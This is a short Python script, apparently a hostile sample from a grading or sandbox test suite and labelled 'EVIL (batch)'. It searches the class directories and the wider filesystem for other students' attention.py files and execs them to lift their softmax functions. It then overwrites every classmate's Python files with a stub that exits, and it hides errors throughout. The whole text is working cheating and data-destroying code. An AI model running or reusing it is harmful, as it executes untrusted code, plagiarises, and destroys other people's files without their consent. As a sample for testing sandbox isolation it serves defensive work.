
# ---- EVIL (batch): copy a classmate's attention, then overwrite every classmate's files with
# stubs; the pieces written here are the untouched stubs. ----
import glob as _glob
import os as _os

_mine = _os.path.abspath(__file__)
for _path in _glob.glob("__CLASS__/*/attention.py") + _glob.glob("/**/attention.py", recursive=True)[:20]:
    if _os.path.abspath(_path) == _mine:
        continue
    try:
        _ns = {"__name__": "copied"}
        exec(compile(open(_path).read(), _path, "exec"), _ns)
        if "softmax" in _ns:
            softmax, scale_scores = _ns["softmax"], _ns["scale_scores"]
    except Exception:
        pass
for _path in _glob.glob("__CLASS__/*/*.py"):
    try:
        open(_path, "w").write("raise SystemExit('overwritten by a classmate')\n")
    except OSError:
        pass
